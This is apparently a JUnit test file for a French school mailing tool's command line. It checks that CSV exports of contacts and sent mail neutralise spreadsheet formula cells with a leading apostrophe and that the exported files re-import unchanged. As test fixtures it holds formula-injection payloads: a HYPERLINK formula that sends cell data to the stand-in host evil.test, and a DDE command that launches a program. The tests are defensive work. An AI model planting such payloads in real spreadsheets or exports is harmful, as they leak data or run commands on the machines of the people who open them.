package fr.missive.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Cells that a spreadsheet would run as formulas leave every CSV export behind an apostrophe,
 * and a contacts export imports back into the same values.
 */
class FormulaCellsCliTest {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.test/?x=\"&A1;\"click\")";
    private static final String COMMAND = "+cmd|'/C calc'!A0";
    private static final String SUM = "@SUM(1+1)";
    private static final String PHONE = "+33 6 12 34 56 78";

    @TempDir
    Path folder;

    @TempDir
    Path other;

    @TempDir
    Path files;

    private Path hostileFile() throws IOException {
        Path file = files.resolve("hostile.csv");
        Files.writeString(file, String.join("\n",
                "Nom;Prénom;Ville;Téléphone;Remarque",
                "\"" + HYPERLINK.replace("\"", "\"\"") + "\";Jeanne;Lyon;" + PHONE + ";ordinaire",
                COMMAND + ";" + SUM + ";-Paris;-;-1",
                "MARTIN;Paul;Lyon;0612345678;'=déjà protégé") + "\n", StandardCharsets.UTF_8);
        return file;
    }

    private static List<CSVRecord> parse(String csv, char delimiter) throws IOException {
        try (CSVParser parser = CSVFormat.DEFAULT.builder().setDelimiter(delimiter).setHeader()
                .setSkipHeaderRecord(true).get().parse(new StringReader(csv))) {
            return parser.getRecords();
        }
    }

    @Test
    void contactsCsvPutsAnApostropheBeforeEveryFormulaCell() throws IOException {
        CliRunner cli = new CliRunner(folder, Locale.ENGLISH);
        assertThat(cli.initCollege().exitCode()).isZero();
        CliRunner.Result imported = cli.run("contacts", "import", hostileFile().toString());
        assertThat(imported.exitCode()).as(imported.err()).isZero();

        List<CSVRecord> rows = parse(cli.run("contacts", "list", "--format", "csv").out(), ',');
        assertThat(rows).extracting(r -> r.get("lastName")).contains("'" + HYPERLINK, "'" + COMMAND, "MARTIN");
        assertThat(rows).extracting(r -> r.get("firstName")).contains("'" + SUM);
        assertThat(rows).extracting(r -> r.get("city")).contains("'-Paris");
        assertThat(rows).extracting(r -> r.get("Téléphone")).contains("'" + PHONE, "'-", "0612345678");
        assertThat(rows).extracting(r -> r.get("Remarque")).contains("'-1", "ordinaire", "'=déjà protégé");
        for (CSVRecord row : rows) {
            for (String cell : row) {
                assertThat(cell).as("no cell of the export may start a formula").doesNotStartWith("=")
                        .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
                        .doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    @Test
    void anExportedContactsFileImportsBackUnchanged() throws IOException {
        CliRunner first = new CliRunner(folder, Locale.ENGLISH);
        assertThat(first.initCollege().exitCode()).isZero();
        assertThat(first.run("contacts", "import", hostileFile().toString()).exitCode()).isZero();
        Path exported = files.resolve("export.csv");
        Files.writeString(exported, first.run("contacts", "list", "--format", "csv").out(), StandardCharsets.UTF_8);

        CliRunner second = new CliRunner(other, Locale.ENGLISH);
        assertThat(second.initCollege().exitCode()).isZero();
        CliRunner.Result imported = second.run("contacts", "import", exported.toString());
        assertThat(imported.exitCode()).as(imported.err()).isZero();

        List<Map<String, Object>> before = first.run("contacts", "list", "--format", "json").jsonArray();
        List<Map<String, Object>> after = second.run("contacts", "list", "--format", "json").jsonArray();
        assertThat(after).hasSameSizeAs(before);
        for (String field : List.of("lastName", "firstName", "address")) {
            assertThat(after).extracting(c -> c.get(field)).containsExactlyInAnyOrderElementsOf(
                    before.stream().map(c -> c.get(field)).toList());
        }
        assertThat(after).extracting(c -> (Object) ((Map<?, ?>) c.get("custom")).get("Téléphone"))
                .containsExactlyInAnyOrder(PHONE, "-", "0612345678");
        assertThat(after).extracting(c -> (Object) ((Map<?, ?>) c.get("custom")).get("Remarque"))
                .containsExactlyInAnyOrder("ordinaire", "-1", "=déjà protégé");
    }

    @Test
    void sentListCsvNeutralisesAFormulaSubject() throws IOException {
        GreenMail greenMail = new GreenMail(new ServerSetup(0, "127.0.0.1", ServerSetup.PROTOCOL_SMTP));
        greenMail.start();
        try {
            CliRunner cli = new CliRunner(folder, Locale.ENGLISH);
            assertThat(cli.initCollege().exitCode()).isZero();
            assertThat(cli.addLoopbackAccount(greenMail.getSmtp().getPort()).exitCode()).isZero();
            Path body = files.resolve("body.txt");
            Files.writeString(body, "Bonjour.\n", StandardCharsets.UTF_8);
            CliRunner.Result sent = cli.run("send", "mail", "--account", "Secrétariat", "--to",
                    "famille@college-test.fr", "--subject", HYPERLINK, "--body-file", body.toString());
            assertThat(sent.exitCode()).as(sent.err()).isZero();
            assertThat(cli.run("outbox", "run", "--until-empty", "--max-seconds", "30").exitCode()).isZero();

            List<CSVRecord> rows = parse(cli.run("sent", "list", "--format", "csv").out(), ';');
            assertThat(rows).singleElement().satisfies(r -> assertThat(r.get("subject")).isEqualTo("'" + HYPERLINK));
        } finally {
            greenMail.stop();
        }
    }
}
